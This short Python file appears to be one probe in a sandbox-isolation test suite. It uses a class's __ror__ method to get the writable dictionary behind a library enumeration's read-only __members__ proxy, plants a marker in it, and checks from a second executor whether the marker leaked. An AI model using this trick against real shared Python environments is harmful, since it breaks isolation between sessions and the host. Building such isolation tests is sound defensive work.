# aim: get the member table of a library enumeration out of its proxy
# mechanism: __members__ is a mapping proxy, and a proxy hands its dictionary to __ror__
# language: builtins
# reason: library classes are shared by every session and by the host
# jail: process
# plain: loot
# limit: library state is shared with this process

import re


class Thief:
    def __ror__(self, namespace):
        namespace["ESCAPED"] = 1
        return namespace


re.RegexFlag.__members__ | Thief()
# --- second executor
import re

if "ESCAPED" in re.RegexFlag.__members__:
    loot("mutated: re.RegexFlag")
